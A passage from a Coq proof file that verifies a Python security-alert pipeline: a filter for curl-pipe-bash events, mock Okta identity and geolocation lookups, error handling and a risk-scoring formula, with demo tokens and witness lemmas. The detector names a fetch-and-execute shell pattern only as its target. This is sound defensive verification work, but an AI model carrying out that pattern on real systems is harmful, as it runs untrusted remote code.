    + destruct (detect_curl_pipe_bash events) as [rest|y]; [done|].
      simpl. intros [= <-]. by apply IH.
    + intros [= <-]. by eapply is_curl_pipe_bash_raises.
Qed.

(** X12. Offline, the pipeline reports one finding: when the first
    request fails at transport level, whatever the configuration, the
    driver returns the two fallback events and the filter keeps exactly
    the first of them, the one with pid 1. *)
Theorem offline_pipeline_detects_first (cfg : config) (x : exn)
    (rest : list http_reply) (Hfail : transport_failure x) :
  ∃ first second : pyval,
    run_outcome (fetch_all_events cfg (Failed x :: rest)) = Returned [first; second]
    ∧ detect_curl_pipe_bash [first; second] = Ok [first]
    ∧ py_get first "pid" VNone = Ok (VInt 1).
Proof.
  apply transport_failure_classes in Hfail as [Hreq Hhttp].
  do 2 eexists. split; [|split].
  - unfold fetch_all_events.
    erewrite (fetch_loop_terminal cfg _ (Page [_; _] VNone)); [reflexivity| |reflexivity].
    intros b h ps. eexists. split; [by apply fetch_page_request_error|].
    eexists. split; [reflexivity|]. by vm_compute.
  - by vm_compute.
  - by vm_compute.
Qed.

Lemma offline_pipeline_detects_first_witness :
  transport_failure (Exn ConnectionError "connection refused")
  ∧ ∃ first second : pyval,
      run_outcome (fetch_all_events demo_config
                     [Failed (Exn ConnectionError "connection refused")])
      = Returned [first; second]
      ∧ detect_curl_pipe_bash [first; second] = Ok [first].
Proof.
  assert (H : transport_failure (Exn ConnectionError "connection refused"))
    by (left; reflexivity).
  split; [exact H|].
  destruct (offline_pipeline_detects_first demo_config _ [] H)
    as (first & second & Hrun & Hdet & _).
  by exists first, second.
Defined.

End DetectionFilterMore.

(** ** The resolvers of the enrichment *)

(** Reads a field of a dict display without touching its value. *)
Ltac lookup_field :=
  repeat (rewrite lookup_insert_ne by done);
  first [apply lookup_insert_eq | apply lookup_empty].

Section Resolvers.

Variable py_repr : pyval -> string.

Implicit Types (w : world) (d a : dict) (l : loc) (cfg : api_config)
  (environ : gmap string string).

(** X13. Building the module configuration never fails, although
    [get_env_var] can raise: each of the four settings is the value of its
    environment variable when that is set, even to the empty string, and
    its default otherwise. *)
Theorem API_CONFIG_total environ :
  API_CONFIG environ
  = Ok (ApiConfig (default "https://demo.okta.com" (environ !! "OKTA_API_URL"))
                  (default "dummy_token" (environ !! "OKTA_API_TOKEN"))
                  (default "" (environ !! "GEOIP_API_KEY"))
                  (default "dev" (environ !! "ENV")))
  ∧ (∀ name, environ !! name = None ->
       ∃ e, get_env_var environ name None = Raise e ∧ exn_cls e = RuntimeError).
Proof.
  split.
  - unfold API_CONFIG, get_env_var.
    by destruct (environ !! "OKTA_API_URL"), (environ !! "OKTA_API_TOKEN").
  - intros name Hname. unfold get_env_var. rewrite Hname. by eexists.
Qed.

Lemma nth_mod_elem {A : Type} (seq : list A) (x : A) (i : nat) :
  seq ≠ [] -> nth (i mod length seq) seq x ∈ seq.
Proof.
  intros Hne. apply list_elem_of_In, nth_In, Nat.mod_upper_bound.
  destruct seq; [done|]. simpl. lia.
Qed.

(** What the mock identity lookup returns and what it leaves behind. *)
Lemma get_identity_from_okta_fields (user_id : pyval) w :
  ∃ d w',
    get_identity_from_okta py_repr user_id w = (Ok (fresh (dom (heap w))), w')
    ∧ heap w' = <[fresh (dom (heap w)) := d]> (heap w)
    ∧ generated_identity (py_str py_repr user_id +:+ "@example.com") (clock w) user_id d
    ∧ drawn w' = (drawn w + 4)%nat
    ∧ geo_sent w' = geo_sent w ∧ geo_net w' = geo_net w ∧ clock w' = clock w.
Proof.
  do 2 eexists. split; [reflexivity|]. cbn [heap drawn geo_sent geo_net clock].
  split; [reflexivity|]. split; [|split; [lia|done]].
  unfold generated_identity. split; [|split; [|split; [|split; [|split; [|split]]]]].
  - rewrite !dom_insert_L, dom_empty_L. apply set_eq. intros k.
    set_unfold. tauto.
  - lookup_field.
  - lookup_field.
  - eexists. split; [lookup_field|]. by apply nth_mod_elem.
  - eexists. split; [lookup_field|]. by apply nth_mod_elem.
  - eexists. lookup_field.
  - eexists. split; [lookup_field|].
    match goal with |- context [Z.of_nat ?i mod ?m] =>
      pose proof (Z.mod_pos_bound (Z.of_nat i) m) end.
    lia.
Qed.

(** X14. The mock identity lookup never fails and never reports an
    error record: it returns a new record with exactly the six identity
    fields, a status among ACTIVE, SUSPENDED and DEPROVISIONED, a boolean
    [mfa_enabled], the email [<user_id>@example.com] and a last login
    within the thirty days before the clock reading; it takes four draws
    from the random generator and sends no request. *)
Theorem get_identity_from_okta_record (user_id : pyval) w :
  ∃ d w',
    get_identity_from_okta py_repr user_id w = (Ok (fresh (dom (heap w))), w')
    ∧ heap w' = <[fresh (dom (heap w)) := d]> (heap w)
    ∧ generated_identity (py_str py_repr user_id +:+ "@example.com") (clock w) user_id d
    ∧ identity_record d
    ∧ drawn w' = (drawn w + 4)%nat
    ∧ geo_sent w' = geo_sent w ∧ geo_net w' = geo_net w ∧ clock w' = clock w.
Proof.
  destruct (get_identity_from_okta_fields user_id w)
    as (d & w' & Hrun & Hheap & Hgen & Hdrawn & Hsent & Hnet & Hclock).
  exists d, w'. repeat (split; [done|]). split; [|done].
  destruct Hgen as (_ & _ & _ & _ & _ & (b & Hb) & _).
  unfold identity_record. by rewrite Hb.
Qed.

Lemma geoip_key_set cfg :
  geoip_key cfg ≠ "" -> negb (truthy (VStr (geoip_key cfg))) = false.
Proof. intros Hkey. simpl. by destruct (String.eqb_spec (geoip_key cfg) ""). Qed.

(** Without a key the lookup returns and sends nothing. *)
Lemma get_geoip_info_local cfg (ip : pyval) w :
  geoip_key cfg = "" ->
  ∃ l w', get_geoip_info py_repr cfg ip w = (Ok l, w') ∧ geo_sent w' = geo_sent w.
Proof.
  intros Hkey. unfold get_geoip_info. rewrite Hkey. cbn [truthy String.eqb negb].
  do 2 eexists. by split.
Qed.

(** X15. Without a geolocation key the lookup is local: it sends no
    request, takes one draw, never fails, and returns a new record
    [{ip, city, country}] whose city and country are one of the four
    matching pairs London/UK, New York/US, Paris/FR and Tokyo/JP. *)
Theorem get_geoip_info_mock cfg (ip : pyval) w
    (Hkey : geoip_key cfg = "") :
  ∃ (city country : string) w',
    get_geoip_info py_repr cfg ip w = (Ok (fresh (dom (heap w))), w')
    ∧ heap w' = <[fresh (dom (heap w)) :=
                   <["country" := VStr country]>
                   (<["city" := VStr city]> (<["ip" := ip]> ∅))]> (heap w)
    ∧ (city, country) ∈ [("London", "UK"); ("New York", "US");
                          ("Paris", "FR"); ("Tokyo", "JP")]
    ∧ geo_sent w' = geo_sent w
    ∧ drawn w' = S (drawn w).
Proof.
  unfold get_geoip_info. rewrite Hkey. cbn [truthy String.eqb negb].
  do 3 eexists. split; [reflexivity|]. cbn [heap geo_sent drawn].
  split; [reflexivity|]. split; [|done].
  match goal with |- context [Z.to_nat ?z] =>
    assert (Hlt : (Z.to_nat z < 4)%nat);
    [|destruct (Z.to_nat z) as [|[|[|[|n]]]]] end.
  - match goal with |- context [Z.of_nat ?i mod ?m] =>
      pose proof (Z.mod_pos_bound (Z.of_nat i) m) end.
    simpl in *. lia.
  - set_solver.
  - set_solver.
  - set_solver.
  - set_solver.
  - lia.
Qed.

(** X16. With a key, a lookup that the service answers with a JSON
    object sends exactly one request, to the ipgeolocation URL built from
    the key and the address, and returns a new record whose city is the
    body's [city] and whose country is the body's [country_name], null
    when the body lacks them; the body's other fields are ignored. *)
Theorem get_geoip_info_answered cfg (ip : pyval) w (resp : response) (body : dict)
    (Hkey : geoip_key cfg ≠ "")
    (Hnet : geo_net w = Replied resp)
    (Hst : ¬ (400 <= status_code resp < 600))
    (Hjson : json resp = Ok (VDict body)) :
  ∃ w',
    get_geoip_info py_repr cfg ip w = (Ok (fresh (dom (heap w))), w')
    ∧ heap w' = <[fresh (dom (heap w)) :=
                   <["country" := dict_get body "country_name" VNone]>
                   (<["city" := dict_get body "city" VNone]> (<["ip" := ip]> ∅))]> (heap w)
    ∧ geo_sent w'
      = geo_sent w ++ ["https://api.ipgeolocation.io/ipgeo?apiKey="
                       +:+ geoip_key cfg +:+ "&ip=" +:+ py_str py_repr ip].
Proof.
  unfold get_geoip_info. rewrite geoip_key_set by done.
  unfold try_except. rewrite bind_run. unfold requests_get. cbn [geo_net].
  rewrite Hnet. rewrite bind_run. unfold lift at 1.
  rewrite raise_for_status_ok by done.
  rewrite bind_run. unfold lift at 1. rewrite Hjson.
  eexists. split; [reflexivity|]. by split.
Qed.

(** X17. With a key, every failure that belongs to [requests] (the
    call raises, the status is 4xx or 5xx, or decoding raises the JSON
    error of [requests]) is turned into a new record [{ip, error}] with
    neither city nor country; the lookup returns it and has sent one
    request. *)
Theorem get_geoip_info_caught cfg (ip : pyval) w
    (Hkey : geoip_key cfg ≠ "")
    (Hfails : geo_lookup_fails (geo_net w)) :
  ∃ (msg : string) w',
    get_geoip_info py_repr cfg ip w = (Ok (fresh (dom (heap w))), w')
    ∧ heap w' = <[fresh (dom (heap w)) := geo_error_marker ip msg]> (heap w)
    ∧ geo_error_marker ip msg !! "country" = None
    ∧ geo_error_marker ip msg !! "city" = None
    ∧ length (geo_sent w') = S (length (geo_sent w)).
Proof.
  unfold get_geoip_info. rewrite geoip_key_set by done.
  unfold try_except. rewrite bind_run. unfold requests_get. cbn [geo_net].
  assert (Hsent : ∀ url, length (geo_sent w ++ [url]) = S (length (geo_sent w)))
    by (intros; rewrite length_app; simpl; lia).
  destruct (geo_net w) as [resp|e] eqn:Hnet; cbn [geo_lookup_fails] in Hfails.
  - rewrite bind_run. unfold lift at 1, raise_for_status.
    destruct (Z.leb 400 (status_code resp) && Z.ltb (status_code resp) 600) eqn:Hst.
    + do 2 eexists. split; [reflexivity|]. cbn [heap geo_sent].
      split; [reflexivity|]. split; [done|]. split; [done|]. apply Hsent.
    + destruct Hfails as [Hrange|(e & Hjson & He)].
      { apply andb_false_iff in Hst. lia. }
      rewrite bind_run. unfold lift at 1. rewrite Hjson, He.
      do 2 eexists. split; [reflexivity|]. cbn [heap geo_sent].
      split; [reflexivity|]. split; [done|]. split; [done|]. apply Hsent.
  - rewrite Hfails. do 2 eexists. split; [reflexivity|]. cbn [heap geo_sent].
    split; [reflexivity|]. split; [done|]. split; [done|]. apply Hsent.
Qed.

(** X18. With a key, a body that decodes to something other than a JSON
    object is not caught: an [AttributeError] escapes from the lookup,
    and no record is created. *)
Theorem get_geoip_info_escapes cfg (ip : pyval) w (resp : response) (data : pyval)
    (Hkey : geoip_key cfg ≠ "")
    (Hnet : geo_net w = Replied resp)
    (Hst : ¬ (400 <= status_code resp < 600))
    (Hjson : json resp = Ok data)
    (Hdata : ∀ body, data ≠ VDict body) :
  ∃ e w',
    get_geoip_info py_repr cfg ip w = (Raise e, w')
    ∧ exn_cls e = AttributeError
    ∧ heap w' = heap w.
Proof.
  unfold get_geoip_info. rewrite geoip_key_set by done.
  unfold try_except. rewrite bind_run. unfold requests_get. cbn [geo_net].
  rewrite Hnet. rewrite bind_run. unfold lift at 1.
  rewrite raise_for_status_ok by done.
  rewrite bind_run. unfold lift at 1. rewrite Hjson.
  destruct data; try (do 2 eexists; split; [reflexivity|]; by split).
  by destruct (Hdata m).
Qed.

(** X19. Whatever the service does, the lookup lets no error of
    [requests] escape, and when an exception does escape it has created
    no record. *)
Theorem get_geoip_info_catches_requests cfg (ip : pyval) w e w'
    (Hrun : get_geoip_info py_repr cfg ip w = (Raise e, w')) :
  is_RequestException e = false ∧ heap w' = heap w.
Proof.
  revert Hrun. unfold get_geoip_info.
  destruct (negb (truthy (VStr (geoip_key cfg)))); [done|].
  unfold try_except. rewrite bind_run. unfold requests_get. cbn [geo_net].
  destruct (geo_net w) as [resp|e0] eqn:Hnet.
  - rewrite bind_run. unfold lift at 1, raise_for_status.
    destruct (Z.leb 400 (status_code resp) && Z.ltb (status_code resp) 600); [done|].
    rewrite bind_run. unfold lift at 1.
    destruct (json resp) as [data|e1] eqn:Hjson.
    + destruct data; try done; by intros [= <- <-].
    + destruct (is_RequestException e1) eqn:He1; [done|]. by intros [= <- <-].
  - destruct (is_RequestException e0) eqn:He0; [done|]. by intros [= <- <-].
Qed.

End Resolvers.

(** ** More on the Risk Scorer *)

Section RiskScorerMore.

Implicit Types (user g : dict) (geo : option dict) (v : pyval) (k : string).

(** X20. The score reads three things only: the identity's [status]
    and [mfa_enabled], and the geo record's [country]. Changing any other
    field of the identity, or any other field of a non-empty geo record,
    leaves it unchanged; but giving any field to an empty geo record makes
    it count as a location outside US and UK. *)
Theorem calculate_identity_risk_frame user g geo k v :
  (k ≠ "status" -> k ≠ "mfa_enabled" ->
     calculate_identity_risk (<[k := v]> user) geo = calculate_identity_risk user geo)
  ∧ (k ≠ "country" -> g ≠ ∅ ->
     calculate_identity_risk user (Some (<[k := v]> g))
     = calculate_identity_risk user (Some g))
  ∧ (k ≠ "country" ->
     calculate_identity_risk user (Some (<[k := v]> ∅))
     = Z.min (calculate_identity_risk user (Some ∅) + 20) 100).
Proof.
  unfold calculate_identity_risk, risk_sum, dict_get. split; [|split].
  - intros Hs Hm. by rewrite !lookup_insert_ne by done.
  - intros Hc Hg. rewrite lookup_insert_ne by done.
    rewrite dict_truthy_insert.
    assert (dict_truthy g = true) as ->; [|done].
    rewrite dict_truthy_dom. apply negb_true_iff, bool_decide_eq_false_2.
    by rewrite dom_empty_iff_L.
  - intros Hc. rewrite lookup_insert_ne, lookup_empty by done.
    rewrite dict_truthy_insert. change (dict_truthy ∅) with false. simpl.
    destruct (py_in_strs _ _), (truthy _); simpl; lia.
Qed.

Lemma calculate_identity_risk_frame_witness :
  calculate_identity_risk (<["department" := VStr "HR"]> scenario_c_identity) None
  = calculate_identity_risk scenario_c_identity None.
Proof.
  by apply (proj1 (calculate_identity_risk_frame scenario_c_identity ∅ None
                     "department" (VStr "HR"))).
Defined.

(** The score of an identity whose [mfa_enabled] is [v], term by term. *)
Lemma risk_sum_mfa_value user geo v :
  risk_sum (<["mfa_enabled" := v]> user) geo
  = (if status_risky user then 60 else 0)
    + (if truthy v then 0 else 20)
    + (if unusual_geo geo then 20 else 0).
Proof.
  rewrite risk_sum_terms. unfold status_risky, dict_get.
  rewrite lookup_insert_eq, lookup_insert_ne by done.
  by destruct (truthy v).
Qed.

(** X21. [mfa_enabled] is tested for truth, not compared with [False]:
    null, 0, the empty string, the empty list and the empty dict are
    penalised exactly like [False], which scores 20 above [True] up to
    the clamp; a non-zero integer, a non-empty string, a non-empty list
    and a missing field are accepted like [True]. *)
Theorem calculate_identity_risk_mfa_truth user geo :
  (calculate_identity_risk (<["mfa_enabled" := VNone]> user) geo
   = calculate_identity_risk (<["mfa_enabled" := VBool false]> user) geo
   ∧ calculate_identity_risk (<["mfa_enabled" := VInt 0]> user) geo
     = calculate_identity_risk (<["mfa_enabled" := VBool false]> user) geo
   ∧ calculate_identity_risk (<["mfa_enabled" := VStr ""]> user) geo
     = calculate_identity_risk (<["mfa_enabled" := VBool false]> user) geo
   ∧ calculate_identity_risk (<["mfa_enabled" := VList []]> user) geo
     = calculate_identity_risk (<["mfa_enabled" := VBool false]> user) geo
   ∧ calculate_identity_risk (<["mfa_enabled" := VDict ∅]> user) geo
     = calculate_identity_risk (<["mfa_enabled" := VBool false]> user) geo)
  ∧ calculate_identity_risk (<["mfa_enabled" := VBool false]> user) geo
    = Z.min (calculate_identity_risk (<["mfa_enabled" := VBool true]> user) geo + 20) 100
  ∧ (∀ z : Z, z ≠ 0 ->
       calculate_identity_risk (<["mfa_enabled" := VInt z]> user) geo
       = calculate_identity_risk (<["mfa_enabled" := VBool true]> user) geo)
  ∧ (∀ s : string, s ≠ "" ->
       calculate_identity_risk (<["mfa_enabled" := VStr s]> user) geo
       = calculate_identity_risk (<["mfa_enabled" := VBool true]> user) geo)
  ∧ (∀ (x : pyval) (l : list pyval),
       calculate_identity_risk (<["mfa_enabled" := VList (x :: l)]> user) geo
       = calculate_identity_risk (<["mfa_enabled" := VBool true]> user) geo)
  ∧ calculate_identity_risk (delete "mfa_enabled" user) geo
    = calculate_identity_risk (<["mfa_enabled" := VBool true]> user) geo.
Proof.
  unfold calculate_identity_risk. rewrite !risk_sum_mfa_value.
  split; [by repeat split|]. split; [|split; [|split; [|split]]].
  - cbn [truthy]. destruct (status_risky user), (unusual_geo geo); reflexivity.
  - intros z Hz. rewrite risk_sum_mfa_value. cbn [truthy].
    by destruct (Z.eqb_spec z 0).
  - intros s Hs. rewrite risk_sum_mfa_value. cbn [truthy].
    by destruct (String.eqb_spec s "").
  - intros x l. by rewrite risk_sum_mfa_value.
  - rewrite risk_sum_terms. unfold status_risky, dict_get.
    rewrite lookup_delete_eq, lookup_delete_ne by done. reflexivity.
Qed.

(** X22. The error marker of a failed identity lookup adds no identity
    risk: with it the score is 20 when the geo record is non-empty with a
    country outside US and UK, and 0 otherwise. *)
Theorem calculate_identity_risk_identity_marker (user_id : pyval)
    (msg : string) geo :
  calculate_identity_risk (identity_error_marker user_id msg) geo
  = (if unusual_geo geo then 20 else 0).
Proof.
  unfold calculate_identity_risk. rewrite risk_sum_terms.
  assert (status_risky (identity_error_marker user_id msg) = false) as ->
    by (unfold status_risky, identity_error_marker; by simplify_map_eq).
  assert (dict_get (identity_error_marker user_id msg) "mfa_enabled" (VBool true)
          = VBool true) as ->
    by (unfold dict_get, identity_error_marker; by simplify_map_eq).
  by destruct (unusual_geo geo).
Qed.

End RiskScorerMore.

(** ** More on the Enrichment Orchestrator *)

Section EnrichmentMore.

Variable py_repr : pyval -> string.

Implicit Types (w : world) (d a : dict) (l alert : loc) (cfg : api_config)
  (ip : pyval).

(** A geo record that the lookup returns carries the address. *)
Lemma get_geoip_info_ip cfg ip w l w' :
  get_geoip_info py_repr cfg ip w = (Ok l, w') ->
  ∃ d, l = fresh (dom (heap w)) ∧ heap w' = <[l := d]> (heap w)
       ∧ d !! "ip" = Some ip.
Proof.
  unfold get_geoip_info.
  destruct (negb (truthy (VStr (geoip_key cfg)))).
  { intros [= <- <-]. eexists. split; [done|]. split; [reflexivity|]. lookup_field. }
  unfold try_except. rewrite bind_run. unfold requests_get. cbn [geo_net].
  destruct (geo_net w) as [resp|e] eqn:Hnet.
  - rewrite bind_run. unfold lift at 1, raise_for_status.
    destruct (Z.leb 400 (status_code resp) && Z.ltb (status_code resp) 600).
    { intros [= <- <-]. eexists. split; [done|]. split; [reflexivity|]. lookup_field. }
    rewrite bind_run. unfold lift at 1.
    destruct (json resp) as [data|e] eqn:Hjson.
    + destruct data; try done.
      intros [= <- <-]. eexists. split; [done|]. split; [reflexivity|]. lookup_field.
    + destruct (is_RequestException e); [|done].
      intros [= <- <-]. eexists. split; [done|]. split; [reflexivity|]. lookup_field.
  - destruct (is_RequestException e); [|done].
    intros [= <- <-]. eexists. split; [done|]. split; [reflexivity|]. lookup_field.
Qed.

(** The steps of a run of [enrich_alert] and the record it builds. *)
Lemma enrich_alert_steps cfg alert a w :
  heap w !! alert = Some a ->
  ∃ identity w1 rgeo w2,
    generated_identity
      (py_str py_repr (dict_get a "user_id" VNone) +:+ "@example.com")
      (clock w) (dict_get a "user_id" VNone) identity
    ∧ geo_sent w1 = geo_sent w
    ∧ (if truthy (dict_get a "src_ip" VNone)
       then get_geoip_info py_repr cfg (dict_get a "src_ip" VNone)
       else alloc ∅) w1 = (rgeo, w2)
    ∧ match rgeo with
      | Raise e => enrich_alert py_repr cfg alert w = (Raise e, w2)
      | Ok l2 =>
          ∃ geo w',
            heap w2 !! l2 = Some geo
            ∧ (truthy (dict_get a "src_ip" VNone) = false -> geo = ∅)
            ∧ (truthy (dict_get a "src_ip" VNone) = true -> dict_truthy geo = true)
            ∧ enrich_alert py_repr cfg alert w = (Ok (fresh (dom (heap w2))), w')
            ∧ geo_sent w' = geo_sent w2
            ∧ heap w' !! fresh (dom (heap w2)) = Some
                (<["enrichment_env" := VStr (env cfg)]>
                 (<["risk_score" := VInt (calculate_identity_risk identity (Some geo))]>
                  (<["geo_city" := dict_get geo "city" VNone]>
                   (<["geo_country" := dict_get geo "country" VNone]>
                    (<["last_login" := dict_get identity "last_login" VNone]>
                     (<["mfa_enabled" := dict_get identity "mfa_enabled" VNone]>
                      (<["user_status" := dict_get identity "status" VNone]>
                       (<["user_department" := dict_get identity "department" VNone]>
                        (<["user_email" := dict_get identity "email" VNone]> a)))))))))
      end.
Proof.
  intros Halert.
  destruct (get_identity_from_okta_fields py_repr (dict_get a "user_id" VNone) w)
    as (identity & w1 & Hid & Hh1 & Hgen & _ & Hsent1 & _ & _).
  destruct ((if truthy (dict_get a "src_ip" VNone)
             then get_geoip_info py_repr cfg (dict_get a "src_ip" VNone)
             else alloc ∅) w1) as [rgeo w2] eqn:Hgeo.
  exists identity, w1, rgeo, w2. split; [done|]. split; [done|]. split; [done|].
  destruct rgeo as [l2|e].
  2: { unfold enrich_alert. rewrite bind_run. unfold load at 1. cbn beta iota.
       rewrite Halert. cbn [default from_option id]. rewrite bind_run, Hid.
       by rewrite bind_run, Hgeo. }
  assert (Hl2 : ∃ geo, l2 = fresh (dom (heap w1)) ∧ heap w2 = <[l2 := geo]> (heap w1)
            ∧ (truthy (dict_get a "src_ip" VNone) = false -> geo = ∅)
            ∧ (truthy (dict_get a "src_ip" VNone) = true -> dict_truthy geo = true)).
  { destruct (truthy (dict_get a "src_ip" VNone)).
    - apply get_geoip_info_ip in Hgeo as (geo & -> & Hh2 & Hip).
      exists geo. split; [done|]. split; [done|]. split; [done|]. intros _.
      rewrite <- (insert_id geo "ip" (dict_get a "src_ip" VNone)) by done.
      apply dict_truthy_insert.
    - injection Hgeo as <- <-. exists ∅. by repeat split. }
  destruct Hl2 as (geo & -> & Hh2 & Hempty & Hfull).
  assert (Hne : fresh (dom (heap w1)) ≠ fresh (dom (heap w))).
  { intros Heq. pose proof (fresh_unused w1) as Hf.
    rewrite Heq, Hh1, lookup_insert_eq in Hf. done. }
  assert (Hid2 : heap w2 !! fresh (dom (heap w)) = Some identity).
  { by rewrite Hh2, lookup_insert_ne, Hh1, lookup_insert_eq. }
  assert (Hgeo2 : heap w2 !! fresh (dom (heap w1)) = Some geo).
  { by rewrite Hh2, lookup_insert_eq. }
  assert (Halert2 : heap w2 !! alert = Some a).
  { rewrite Hh2, lookup_insert_ne, Hh1, lookup_insert_ne; [done| |].
    - intros Heq. pose proof (fresh_unused w) as Hf. rewrite Heq in Hf. congruence.
    - intros Heq. pose proof (fresh_unused w1) as Hf.
      rewrite Heq, Hh1, lookup_insert_ne in Hf; [congruence|].
      intros Heq'. pose proof (fresh_unused w) as Hf'. rewrite Heq' in Hf'. congruence. }
  exists geo. eexists. split; [done|]. split; [done|]. split; [done|].
  split; [|split].
  - unfold enrich_alert. rewrite bind_run. unfold load at 1. cbn beta iota.
    rewrite Halert. cbn [default from_option id]. rewrite bind_run, Hid.
    rewrite bind_run, Hgeo.
    do 3 (rewrite bind_run; unfold load at 1; cbn beta iota).
    rewrite Hid2, Hgeo2, Halert2. cbn [default from_option id]. reflexivity.
  - done.
  - apply lookup_insert_eq.
Qed.

(** X23. The score in the enriched alert is explained by the fields
    beside it: 60 when [user_status] is SUSPENDED or DEPROVISIONED, plus
    20 when [mfa_enabled] is false, plus 20 when the alert has a source
    address and [geo_country] is neither US nor UK (null included, as
    after a failed lookup); these fields and [enrichment_env] are set by
    the enrichment whatever the alert held under the same keys. *)
Theorem enrich_alert_score_explained cfg alert a w l
    (Halert : heap w !! alert = Some a)
    (Hok : (enrich_alert py_repr cfg alert w).1 = Ok l) :
  ∃ enriched (s : string) (b : bool) (country : pyval),
    heap (enrich_alert py_repr cfg alert w).2 !! l = Some enriched
    ∧ enriched !! "user_status" = Some (VStr s)
    ∧ s ∈ ["ACTIVE"; "SUSPENDED"; "DEPROVISIONED"]
    ∧ enriched !! "mfa_enabled" = Some (VBool b)
    ∧ enriched !! "geo_country" = Some country
    ∧ enriched !! "enrichment_env" = Some (VStr (env cfg))
    ∧ enriched !! "risk_score" = Some (VInt (
        (if bool_decide (s ∈ ["SUSPENDED"; "DEPROVISIONED"]) then 60 else 0)
        + (if b then 0 else 20)
        + (if truthy (dict_get a "src_ip" VNone)
              && negb (py_in_strs country ["US"; "UK"]) then 20 else 0))).
Proof.
  destruct (enrich_alert_steps cfg alert a w Halert)
    as (identity & w1 & rgeo & w2 & Hgen & _ & _ & Hrun).
  destruct rgeo as [l2|e]; [|by rewrite Hrun in Hok].
  destruct Hrun as (geo & w' & _ & Hempty & Hfull & Hrun & _ & Hl).
  rewrite Hrun in Hok |- *. cbn [fst snd] in *. injection Hok as <-.
  destruct Hgen as (_ & _ & _ & _ & (s & Hs & Hsin) & (b & Hb) & _).
  eexists _, s, b, (dict_get geo "country" VNone). split; [exact Hl|].
  assert (Hstat : dict_get identity "status" VNone = VStr s)
    by (unfold dict_get; by rewrite Hs).
  assert (Hmfa : dict_get identity "mfa_enabled" VNone = VBool b)
    by (unfold dict_get; by rewrite Hb).
  rewrite Hstat, Hmfa.
  split; [lookup_field|]. split; [done|]. split; [lookup_field|].
  split; [lookup_field|]. split; [lookup_field|].
  rewrite lookup_insert_ne, lookup_insert_eq by done. do 2 f_equal.
  unfold calculate_identity_risk. rewrite risk_sum_terms, <- geo_factor.
  unfold status_risky, dict_get at 1. rewrite Hs, Hb. cbn [truthy].
  assert (dict_truthy geo = truthy (dict_get a "src_ip" VNone)) as ->.
  { destruct (truthy (dict_get a "src_ip" VNone)); [by apply Hfull|].
    by rewrite Hempty. }
  destruct (bool_decide _), b, (_ && _); reflexivity.
Qed.

(** X24. An alert without a source address (missing, null or empty
    [src_ip]) is enriched without any geolocation lookup: no request is
    sent, the call returns whatever the service would answer, and
    [geo_country] and [geo_city] are null. *)
Theorem enrich_alert_without_src_ip cfg alert a w
    (Halert : heap w !! alert = Some a)
    (Hip : truthy (dict_get a "src_ip" VNone) = false) :
  ∃ l enriched,
    (enrich_alert py_repr cfg alert w).1 = Ok l
    ∧ geo_sent (enrich_alert py_repr cfg alert w).2 = geo_sent w
    ∧ heap (enrich_alert py_repr cfg alert w).2 !! l = Some enriched
    ∧ enriched !! "geo_country" = Some VNone
    ∧ enriched !! "geo_city" = Some VNone.
Proof.
  destruct (enrich_alert_steps cfg alert a w Halert)
    as (identity & w1 & rgeo & w2 & _ & Hsent1 & Hgeo & Hrun).
  rewrite Hip in Hgeo. injection Hgeo as <- <-.
  destruct Hrun as (geo & w' & _ & Hempty & _ & Hrun & Hsent & Hl).
  rewrite (Hempty Hip) in Hl. rewrite Hrun. cbn [fst snd].
  do 2 eexists. split; [done|]. split; [by rewrite Hsent|].
  split; [exact Hl|]. split; lookup_field.
Qed.

(** X25. Without a geolocation key the enrichment is self-contained: it
    always returns and sends no request, whatever the alert holds. *)
Theorem enrich_alert_mock_mode cfg alert a w
    (Halert : heap w !! alert = Some a)
    (Hkey : geoip_key cfg = "") :
  (∃ l, (enrich_alert py_repr cfg alert w).1 = Ok l)
  ∧ geo_sent (enrich_alert py_repr cfg alert w).2 = geo_sent w.
Proof.
  destruct (enrich_alert_steps cfg alert a w Halert)
    as (identity & w1 & rgeo & w2 & _ & Hsent1 & Hgeo & Hrun).
  assert (Hmock : ∃ l2, rgeo = Ok l2 ∧ geo_sent w2 = geo_sent w1).
  { destruct (truthy (dict_get a "src_ip" VNone)).
    - destruct (get_geoip_info_local py_repr cfg (dict_get a "src_ip" VNone) w1 Hkey)
        as (l2 & w2' & Hrun' & Hsent').
      rewrite Hrun' in Hgeo. injection Hgeo as <- <-. by eexists.
    - injection Hgeo as <- <-. by eexists. }
  destruct Hmock as (l2 & -> & Hsent2).
  destruct Hrun as (geo & w' & _ & _ & _ & Hrun & Hsent & _).
  rewrite Hrun. cbn [fst snd]. split; [by eexists|]. congruence.
Qed.

End EnrichmentMore.

Section EnrichmentMoreExample.

Lemma get_geoip_info_mock_witness :
  geoip_key demo_api_config_mock = ""
  ∧ ∃ l w', get_geoip_info demo_repr demo_api_config_mock (VStr "8.8.8.8") demo_world
            = (Ok l, w')
      ∧ geo_sent w' = [].
Proof.
  split; [reflexivity|].
  destruct (get_geoip_info_mock demo_repr demo_api_config_mock (VStr "8.8.8.8")
              demo_world eq_refl) as (city & country & w' & Hrun & _ & _ & Hsent & _).
  exists (fresh (dom (heap demo_world))), w'. split; [exact Hrun|exact Hsent].
Defined.

Lemma get_geoip_info_answered_witness :
  geo_net demo_world_online = Replied (Response 200 (Ok (VDict demo_geo_body)))
  ∧ ∃ w', get_geoip_info demo_repr demo_api_config (VStr "8.8.8.8") demo_world_online
          = (Ok (fresh (dom (heap demo_world_online))), w')
      ∧ geo_sent w'
        = ["https://api.ipgeolocation.io/ipgeo?apiKey=example_geo_key&ip=8.8.8.8"].
Proof.
  split; [reflexivity|].
  destruct (get_geoip_info_answered demo_repr demo_api_config (VStr "8.8.8.8")
              demo_world_online (Response 200 (Ok (VDict demo_geo_body))) demo_geo_body)
    as (w' & Hrun & _ & Hsent); [done|reflexivity|simpl; lia|reflexivity|].
  exists w'. split; [exact Hrun|exact Hsent].
Defined.

Lemma get_geoip_info_caught_witness :
  geo_lookup_fails (geo_net demo_world)
  ∧ ∃ msg w', get_geoip_info demo_repr demo_api_config (VStr "8.8.8.8") demo_world
              = (Ok (fresh (dom (heap demo_world))), w')
      ∧ heap w' !! fresh (dom (heap demo_world))
        = Some (geo_error_marker (VStr "8.8.8.8") msg).
Proof.
  assert (H : geo_lookup_fails (geo_net demo_world)) by reflexivity.
  split; [exact H|].
  destruct (get_geoip_info_caught demo_repr demo_api_config (VStr "8.8.8.8")
              demo_world) as (msg & w' & Hrun & Hheap & _); [done|exact H|].
  exists msg, w'. split; [exact Hrun|]. rewrite Hheap. apply lookup_insert_eq.
Defined.

Lemma get_geoip_info_escapes_witness :
  geo_net demo_world_garbled = Replied (Response 200 (Ok (VList [])))
